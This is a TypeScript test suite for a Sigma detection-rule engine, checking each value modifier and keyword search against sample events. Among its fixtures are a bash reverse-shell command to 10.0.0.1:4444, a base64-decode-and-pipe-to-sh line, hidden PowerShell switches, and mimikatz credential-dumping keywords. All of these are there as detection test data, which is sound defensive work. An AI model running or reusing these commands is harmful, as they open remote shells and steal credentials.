// Every Sigma value modifier, each with events that must and must not match; special values
// (null, empty, numbers), list-valued event fields, and keyword (field-less) searches.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileRuleText } from './loader.js';
import { compileItem, compileOne, ruleYaml, withFields, withKeywords } from './test-events.js';

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const wideBase64 = (text: string) => Buffer.from(text, 'utf16le').toString('base64');

/** Whether the one-item rule matches an event whose field `F` has this value. */
function on(item: string, value: Parameters<typeof withFields>[0][string], options = {}): boolean {
  return compileItem(item, options).match(withFields({ F: value }));
}

test('contains, startswith, endswith', () => {
  assert.equal(on("F|contains: 'mimikatz'", 'run MIMIKATZ.exe now'), true);
  assert.equal(on("F|contains: 'mimikatz'", 'mimi katz'), false);
  assert.equal(on("F|startswith: 'C:\\Windows'", 'c:\\windows\\system32'), true);
  assert.equal(on("F|startswith: 'C:\\Windows'", 'D:\\C:\\Windows'), false);
  assert.equal(on("F|endswith: '\\cmd.exe'", 'C:\\Windows\\System32\\CMD.EXE'), true);
  assert.equal(on("F|endswith: '\\cmd.exe'", 'C:\\cmd.exe.bak'), false);
  // Wildcards inside a wrapped value still work.
  assert.equal(on("F|contains: 'a*c'", 'xxabbbcxx'), true);
  assert.equal(on("F|contains: 'a*c'", 'xxcbbbaxx'), false);
  // A list of values is an OR.
  assert.equal(on("F|endswith: ['.ps1', '.bat']", 'run.BAT'), true);
  assert.equal(on("F|endswith: ['.ps1', '.bat']", 'run.cmd'), false);
});

test('contains, startswith and endswith exclude each other', () => {
  const result = compileRuleText(
    ruleYaml("selection:\n  F|startswith|endswith: 'x'\ncondition: selection"),
    'wraps.yml',
  );
  assert.equal(result.rules.length, 0);
  assert.match(result.rejected[0]?.construct ?? '', /modifier/);
});

test('all: every value of the list must match', () => {
  const item = "F|contains|all: ['-nop', '-w hidden']";
  assert.equal(on(item, 'powershell -nop -w hidden -c x'), true);
  assert.equal(on(item, 'powershell -nop -c x'), false);
  assert.equal(on(item, 'powershell -w hidden'), false);
  // Without a wrap, all is equality with every value: only a list-valued field can do that.
  assert.equal(on("F|all: ['a', 'b']", ['b', 'a']), true);
  assert.equal(on("F|all: ['a', 'b']", ['a', 'c']), false);
  assert.equal(on("F|all: ['a', 'b']", 'a'), false);
  // all across the elements of a list-valued field.
  assert.equal(on("F|contains|all: ['one', 'two']", ['xoney', 'xtwoy']), true);
  assert.equal(on("F|contains|all: ['one', 'two']", ['xoney', 'xthreey']), false);
});

test('windash: a switch matches with each of the five dashes', () => {
  const item = "F|windash|contains: ' -encodedcommand '";
  for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
    assert.equal(on(item, `powershell.exe ${dash}EncodedCommand SQBFAFgA`), true, `dash ${dash}`);
  }
  assert.equal(on(item, 'powershell.exe +EncodedCommand SQBFAFgA'), false);
  assert.equal(on(item, 'powershell.exe EncodedCommand SQBFAFgA'), false);
  // A slash written in the rule also matches a dash, and two switches vary independently.
  const two = "F|windash|contains: '/c /q'";
  assert.equal(on(two, 'cmd.exe -c \u2014q'), true);
  assert.equal(on(two, 'cmd.exe /c /q'), true);
  assert.equal(on(two, 'cmd.exe _c /q'), false);
  // A dash inside a word is not a switch.
  assert.equal(on("F|windash: 'a-b'", 'a/b'), false);
  assert.equal(on("F|windash: 'a-b'", 'a-b'), true);
});

test('re: an unanchored, case-sensitive search', () => {
  assert.equal(on("F|re: 'b.d'", 'abcde'), true);
  assert.equal(on("F|re: 'b.d'", 'abde'), false);
  assert.equal(on("F|re: '^abc$'", 'abc'), true);
  assert.equal(on("F|re: '^abc$'", 'xabc'), false);
  assert.equal(on("F|re: 'ABC'", 'abc'), false);
  assert.equal(on("F|re: '\\d{3,}'", 'port 8080'), true);
  assert.equal(on("F|re: '\\d{3,}'", 'port 80'), false);
  // Numbers in the event are searched as their text.
  assert.equal(on("F|re: '^44[0-9]$'", 443), true);
  assert.equal(compileItem("F|re: '.*'").match(withFields({})), false);
});

test('re sub-modifiers i, m, s, and a leading (?i)', () => {
  assert.equal(on("F|re|i: 'ABC'", 'xabcx'), true);
  assert.equal(on("F|re|i: 'ABC'", 'xabx'), false);
  assert.equal(on("F|re: '(?i)ABC'", 'xabcx'), true);
  assert.equal(on("F|re: '(?i)ABC'", 'xabx'), false);
  assert.equal(on("F|re: '^two$'", 'one\ntwo\nthree'), false);
  assert.equal(on("F|re|m: '^two$'", 'one\ntwo\nthree'), true);
  assert.equal(on("F|re: 'a.b'", 'a\nb'), false);
  assert.equal(on("F|re|s: 'a.b'", 'a\nb'), true);
  assert.equal(on("F|re|i|m: '^TWO$'", 'one\ntwo'), true);
});

test('base64: the encoded value', () => {
  assert.equal(on("F: ''", ''), true);
  assert.equal(on("F|base64: 'cmd'", base64('cmd')), true);
  assert.equal(on("F|base64: 'cmd'", 'cmd'), false);
  assert.equal(on("F|base64|contains: 'http://'", `x ${base64('http://')} y`), true);
  assert.equal(on("F|base64|contains: 'http://'", `x ${base64('https://')} y`), false);
});

test("base64offset|contains: the three offsets of the specification's /bin/bash example", () => {
  const item = "F|base64offset|contains: '/bin/bash'";
  // pySigma's expected encodings, and what Buffer makes of the value at offsets 0, 1 and 2.
  assert.equal(base64('/bin/bash'), 'L2Jpbi9iYXNo');
  assert.equal(base64(' /bin/bash').slice(2, -3), '9iaW4vYmFza');
  assert.equal(base64('  /bin/bash').slice(3, -2), 'vYmluL2Jhc2');
  for (const encoded of ['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2', base64(' /bin/bash'), base64('  /bin/bash')]) {
    assert.equal(on(item, `echo ${encoded} | base64 -d | sh`), true, encoded);
  }
  // The value anywhere in an encoded command.
  for (const prefix of ['', 'x', 'xy', 'exec ', 'curl x | ']) {
    assert.equal(on(item, base64(`${prefix}/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`)), true, `prefix '${prefix}'`);
  }
  assert.equal(on(item, base64('/bin/sh -i')), false);
  assert.equal(on(item, base64('x/bin/zsh -i')), false);
  assert.equal(on(item, '/bin/bash'), false);
});

test('wide|base64offset|contains finds a word in a PowerShell -enc payload at any offset', () => {
  const item = "F|wide|base64offset|contains: 'ping'";
  for (const script of ['ping 127.0.0.1', 'x; ping 10.0.0.1', 'xy; ping -n 1 host', '$a = 1; ping host']) {
    assert.equal(on(item, `powershell.exe -enc ${wideBase64(script)}`), true, script);
  }
  assert.equal(on(item, `powershell.exe -enc ${wideBase64('pong 127.0.0.1')}`), false);
  // The same word in UTF-8 base64 is not the wide encoding.
  assert.equal(on(item, `powershell.exe -enc ${base64('ping 127.0.0.1 and more text')}`), false);
});

test('utf16le, utf16be and utf16 (with a byte order mark), each followed by base64', () => {
  const script = 'cmd /c whoami';
  assert.equal(on("F|utf16le|base64offset|contains: 'whoami'", wideBase64(script)), true);
  assert.equal(on("F|utf16le|base64offset|contains: 'whoami'", base64(script)), false);
  const be = Buffer.from(script, 'utf16le').swap16().toString('base64');
  assert.equal(on("F|utf16be|base64offset|contains: 'whoami'", be), true);
  // (Not the little-endian stream: at an odd offset, that holds the big-endian bytes too.)
  assert.equal(on("F|utf16be|base64offset|contains: 'whoami'", base64(script)), false);
  const bom = (text: string) =>
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]).toString('base64');
  assert.equal(on("F|utf16|base64: 'cmd'", bom('cmd')), true);
  assert.equal(on("F|utf16|base64: 'cmd'", wideBase64('cmd')), false);
  assert.equal(on("F|utf16|base64offset|contains: 'cmd'", bom(script)), true);
  assert.equal(on("F|wide|base64: 'cmd'", wideBase64('cmd')), true);
  assert.equal(on("F|wide|base64: 'cmd'", base64('cmd')), false);
});

test('base64 encodes the value with its escapes resolved (C:\\\\Windows is C:\\Windows)', () => {
  // The spec: a plain backslash may be written doubled; `\*` is a plain star.
  assert.equal(on(String.raw`F|base64|contains: 'C:\\Windows'`, base64(String.raw`C:\Windows`)), true);
  assert.equal(on(String.raw`F|base64: 'a\*b'`, base64('a*b')), true);
});

test('wide|base64 of a value with wildcards is refused, as base64 of one is', () => {
  const plain = compileRuleText(ruleYaml("selection:\n  F|base64: 'a*b'\ncondition: selection"), 'w.yml');
  assert.equal(plain.rules.length, 0);
  const wide = compileRuleText(ruleYaml("selection:\n  F|wide|base64: 'a*b'\ncondition: selection"), 'w.yml');
  assert.equal(wide.rules.length, 0);
});

test('cidr: IPv4 and IPv6 networks', () => {
  assert.equal(on("F|cidr: '10.0.0.0/8'", '10.200.3.4'), true);
  assert.equal(on("F|cidr: '10.0.0.0/8'", '11.0.0.1'), false);
  assert.equal(on("F|cidr: '192.168.1.0/24'", '192.168.1.255'), true);
  assert.equal(on("F|cidr: '192.168.1.0/24'", '192.168.2.1'), false);
  assert.equal(on("F|cidr: '192.168.1.7'", '192.168.1.7'), true);
  assert.equal(on("F|cidr: '192.168.1.7'", '192.168.1.8'), false);
  assert.equal(on("F|cidr: ['10.0.0.0/8', '172.16.0.0/12']", '172.20.1.1'), true);
  assert.equal(on("F|cidr: ['10.0.0.0/8', '172.16.0.0/12']", '172.32.0.1'), false);
  assert.equal(on("F|cidr: '2001:db8::/32'", '2001:db8:1::5'), true);
  assert.equal(on("F|cidr: '2001:db8::/32'", '2001:db9::5'), false);
  assert.equal(on("F|cidr: 'fe80::/10'", 'FE80::1'), true);
  // An IPv4 address is not in an IPv6 network, and what is not an address is in none.
  assert.equal(on("F|cidr: '2001:db8::/32'", '10.0.0.1'), false);
  assert.equal(on("F|cidr: '10.0.0.0/8'", 'not-an-ip'), false);
  assert.equal(on("F|cidr: '10.0.0.0/8'", '10.0.0.1:443'), false);
  assert.equal(on("F|cidr: '10.0.0.0/8'", ''), false);
  assert.equal(compileItem("F|cidr: '10.0.0.0/8'").match(withFields({})), false);
  // Any element of a list-valued field.
  assert.equal(on("F|cidr: '10.0.0.0/8'", ['8.8.8.8', '10.1.1.1']), true);
  // Network edges, and texts that only look like IPv4 addresses.
  assert.equal(on("F|cidr: '10.0.0.0/8'", '10.255.255.255'), true);
  assert.equal(on("F|cidr: '10.0.0.0/8'", '9.255.255.255'), false);
  assert.equal(on("F|cidr: '0.0.0.0/0'", '255.255.255.255'), true);
  assert.equal(on("F|cidr: '10.1.2.3/8'", '10.9.9.9'), true);
  for (const text of ['010.0.0.1', '10.0.0.01', '10.0.0', '10.0.0.1.5', '10.0.0.256', '10..0.1', ' 10.0.0.1'])
    assert.equal(on("F|cidr: '10.0.0.0/8'", text), false, text);
});

test('lt, lte, gt, gte over numbers and numeric text', () => {
  assert.equal(on('F|lt: 10', 9), true);
  assert.equal(on('F|lt: 10', 10), false);
  assert.equal(on('F|lte: 10', 10), true);
  assert.equal(on('F|lte: 10', 11), false);
  assert.equal(on('F|gt: 10', 11), true);
  assert.equal(on('F|gt: 10', 10), false);
  assert.equal(on('F|gte: 10', 10), true);
  assert.equal(on('F|gte: 10', 9.5), false);
  // Numeric text on either side.
  assert.equal(on("F|gt: '1000'", '1001'), true);
  assert.equal(on("F|gt: '1000'", '999'), false);
  assert.equal(on('F|lt: 0.5', '0.25'), true);
  assert.equal(on('F|gte: -5', -5), true);
  // Non-numeric and absent values match no comparison.
  assert.equal(on('F|lt: 10', 'abc'), false);
  assert.equal(on('F|lt: 10', ''), false);
  assert.equal(on('F|lt: 10', true), false);
  assert.equal(compileItem('F|lt: 10').match(withFields({})), false);
  // String comparison would say '9' > '10'; the comparison is numeric.
  assert.equal(on('F|gt: 10', '9'), false);
  assert.equal(on('F|gt: 10', [3, 20]), true);
});

test('neq: present and different', () => {
  assert.equal(on("F|neq: 'admin'", 'guest'), true);
  assert.equal(on("F|neq: 'admin'", 'admin'), false);
  assert.equal(on("F|neq: 'admin'", 'ADMIN'), false);
  assert.equal(compileItem("F|neq: 'admin'").match(withFields({})), false);
  assert.equal(on('F|neq: 4624', 4625), true);
  assert.equal(on('F|neq: 4624', 4624), false);
  assert.equal(on('F|neq: 4624', '4624'), false);
});

test('exists: true and false', () => {
  assert.equal(on('F|exists: true', 'x'), true);
  assert.equal(on('F|exists: true', ''), true);
  assert.equal(on('F|exists: true', null), true);
  assert.equal(compileItem('F|exists: true').match(withFields({ G: 'x' })), false);
  assert.equal(compileItem('F|exists: false').match(withFields({ G: 'x' })), true);
  assert.equal(on('F|exists: false', 'x'), false);
});

test('fieldref: compares two fields of the event', () => {
  const same = compileItem('F|fieldref: G');
  assert.equal(same.match(withFields({ F: 'alice', G: 'ALICE' })), true);
  assert.equal(same.match(withFields({ F: 'alice', G: 'bob' })), false);
  assert.equal(same.match(withFields({ F: 'alice' })), false);
  assert.equal(same.match(withFields({ F: 5, G: '5' })), true);
  assert.equal(compileItem('F|fieldref|cased: G').match(withFields({ F: 'alice', G: 'ALICE' })), false);
  const contains = compileItem('F|fieldref|contains: G');
  assert.equal(contains.match(withFields({ F: 'C:\\Users\\alice\\x.exe', G: 'Alice' })), true);
  assert.equal(contains.match(withFields({ F: 'C:\\Users\\bob\\x.exe', G: 'alice' })), false);
  const starts = compileItem('F|fieldref|startswith: G');
  assert.equal(starts.match(withFields({ F: 'alice.local', G: 'alice' })), true);
  assert.equal(starts.match(withFields({ F: 'x.alice', G: 'alice' })), false);
  const ends = compileItem('F|fieldref|endswith: G');
  assert.equal(ends.match(withFields({ F: 'x.alice', G: 'alice' })), true);
  assert.equal(ends.match(withFields({ F: 'alice.x', G: 'alice' })), false);
  assert.deepEqual(same.fields.sort(), ['F', 'G']);
});

test('fieldref|neq (spec v2.1): the fields differ', () => {
  const differ = compileItem('F|fieldref|neq: G');
  assert.equal(differ.match(withFields({ F: 'alice', G: 'bob' })), true);
  assert.equal(differ.match(withFields({ F: 'alice', G: 'alice' })), false);
});

test('expand: placeholders from the options, each a list of patterns', () => {
  const options = { placeholders: { Admins: ['adm_*', 'root'], Servers: ['srv01'] } };
  assert.equal(on("F|expand: '%Admins%'", 'ADM_bob', options), true);
  assert.equal(on("F|expand: '%Admins%'", 'root', options), true);
  assert.equal(on("F|expand: '%Admins%'", 'bob', options), false);
  assert.equal(on("F|expand: '%Admins%@%Servers%'", 'root@srv01', options), true);
  assert.equal(on("F|expand: '%Admins%@%Servers%'", 'root@srv02', options), false);
  // Without expand, a placeholder is literal text.
  assert.equal(on("F: '%Admins%'", '%admins%', options), true);
  assert.equal(on("F: '%Admins%'", 'root', options), false);
});

test('expand: an unknown placeholder rejects the rule', () => {
  const result = compileRuleText(
    ruleYaml("selection:\n  F|expand: '%Nope%'\ncondition: selection"),
    'expand_rule.yml',
    { placeholders: { Admins: ['root'] } },
  );
  assert.equal(result.rules.length, 0);
  assert.equal(result.rejected[0]?.construct, "modifier 'expand'");
  assert.match(result.rejected[0].message, /expand_rule\.yml/);
  assert.match(result.rejected[0].message, /%Nope%/);
});

test('expand: \\% is a plain percent sign (spec: `\\%plain%name%`)', () => {
  assert.equal(on(String.raw`F|expand: '\%plain%name%'`, '%plainx', { placeholders: { name: ['x'] } }), true);
});

test('expand: a placeholder is replaced where it stands, even after an escaped one of the same name', () => {
  const options = { placeholders: { x: ['A'] } };
  assert.equal(on(String.raw`F|expand: '\%x% and %x%'`, '%x% and A', options), true);
  assert.equal(on(String.raw`F|expand: '\%x% and %x%'`, 'A and %x%', options), false);
});

test('expand: a placeholder value is inserted as written, $ and all', () => {
  assert.equal(on("F|expand: '%share%'", 'C$$&', { placeholders: { share: ['C$$&'] } }), true);
});

test('expand: a placeholder the site left empty matches nothing, so a filter naming it excludes nothing', () => {
  const options = { placeholders: { known_cdcs: [] } };
  assert.equal(on("F|contains|expand: '%known_cdcs%'", 'cdc:dc01.corp.example', options), false);
  const rule = compileRuleText(
    ruleYaml(
      "selection:\n  F|contains: 'cdc:'\nfilter:\n  F|contains|expand: '%known_cdcs%'\ncondition: selection and not filter",
    ),
    'empty_placeholder.yml',
    options,
  ).rules[0];
  assert.equal(rule?.match(withFields({ F: 'cdc:dc01.corp.example' })), true);
});

test('time parts: minute, hour, day, week, month, year of ISO text and epoch numbers', () => {
  const iso = '2024-03-05T10:15:30Z'; // a Tuesday in ISO week 10
  const ms = Date.parse(iso);
  for (const value of [iso, ms, ms / 1000, String(ms)]) {
    assert.equal(on('F|minute: 15', value), true, `minute of ${value}`);
    assert.equal(on('F|hour: 10', value), true, `hour of ${value}`);
    assert.equal(on('F|day: 5', value), true, `day of ${value}`);
    assert.equal(on('F|week: 10', value), true, `week of ${value}`);
    assert.equal(on('F|month: 3', value), true, `month of ${value}`);
    assert.equal(on('F|year: 2024', value), true, `year of ${value}`);
    assert.equal(on('F|hour: 11', value), false, `hour of ${value}`);
    assert.equal(on('F|month: 4', value), false, `month of ${value}`);
  }
  assert.equal(on('F|hour: 10', '2024-03-05T12:15:30+02:00'), true);
  assert.equal(on('F|week: 1', '2024-12-30T00:00:00Z'), true);
  assert.equal(on('F|hour|gte: 9', iso), true);
  assert.equal(on('F|hour|gte: 11', iso), false);
  assert.equal(on('F|hour|lt: 6', iso), false);
  assert.equal(on('F|hour|lt: 6', '2024-03-05T03:00:00Z'), true);
  assert.equal(on('F|hour: 10', 'not a date'), false);
  assert.equal(compileItem('F|hour: 10').match(withFields({})), false);
});

test('time parts of a timestamp without an offset do not depend on the server time zone', () => {
  const saved = process.env.TZ;
  process.env.TZ = 'America/New_York';
  try {
    assert.equal(on('F|hour: 10', '2024-03-05T10:15:30'), true);
  } finally {
    if (saved === undefined) delete process.env.TZ;
    else process.env.TZ = saved;
  }
});

test('null: the field is absent or null', () => {
  assert.equal(compileItem('F: null').match(withFields({})), true);
  assert.equal(on('F: null', null), true);
  assert.equal(on('F: null', ''), false);
  assert.equal(on('F: null', 'x'), false);
  assert.equal(on("F: [null, 'x']", 'x'), true);
  assert.equal(on("F: [null, 'x']", 'y'), false);
  assert.equal(compileItem("F: [null, 'x']").match(withFields({})), true);
});

test('an empty string matches an empty field only', () => {
  assert.equal(on("F: ''", ''), true);
  assert.equal(on("F: ''", ' '), false);
  assert.equal(on("F: ''", null), false);
  assert.equal(compileItem("F: ''").match(withFields({})), false);
});

test('numeric values match numbers and their text', () => {
  assert.equal(on('F: 1', 1), true);
  assert.equal(on('F: 1', '1'), true);
  assert.equal(on('F: 1', 11), false);
  assert.equal(on('F: 1', '2'), false);
  assert.equal(on("F: '4624'", 4624), true);
  assert.equal(on('F: [4624, 4625]', 4625), true);
  assert.equal(on('F: [4624, 4625]', 4634), false);
  assert.equal(on('F: true', true), true);
  assert.equal(on('F: true', false), false);
});

test('list-valued fields: any element can match', () => {
  assert.equal(on("F: 'b'", ['a', 'b']), true);
  assert.equal(on("F: 'b'", ['a', 'c']), false);
  assert.equal(on("F|contains: 'vil'", ['good', ['EVIL']]), true);
  assert.equal(on("F|startswith: 'x'", []), false);
  assert.equal(on('F: 2', [1, 2, 3]), true);
});

test('keywords: a list of strings searched in the event text, contains, any case', () => {
  const rule = compileOne("keywords:\n  - 'mimikatz'\n  - 'sekurlsa::logonpasswords'\ncondition: keywords");
  assert.equal(rule.match(withKeywords('Running MIMIKATZ now')), true);
  assert.equal(rule.match(withKeywords('x sekurlsa::logonpasswords y')), true);
  assert.equal(rule.match(withKeywords('nothing to see')), false);
  assert.equal(rule.match(withKeywords('')), false);
  // Keywords read the event text, not field values.
  assert.equal(rule.match(withFields({ CommandLine: 'mimikatz' })), false);
  const single = compileOne("keywords: 'evil'\ncondition: keywords");
  assert.equal(single.match(withKeywords('an EVIL thing')), true);
  assert.equal(single.match(withKeywords('an eval thing')), false);
  const all = compileOne(
    "keywords:\n  '|all':\n    - 'OabVirtualDirectory'\n    - ' -ExternalUrl '\ncondition: keywords",
  );
  assert.equal(all.match(withKeywords('Set-OabVirtualDirectory -ExternalUrl http://x')), true);
  assert.equal(all.match(withKeywords('Set-OabVirtualDirectory -InternalUrl http://x')), false);
  // Keyword text spans lines.
  assert.equal(single.match(withKeywords('first line\nsecond evil line')), true);
});
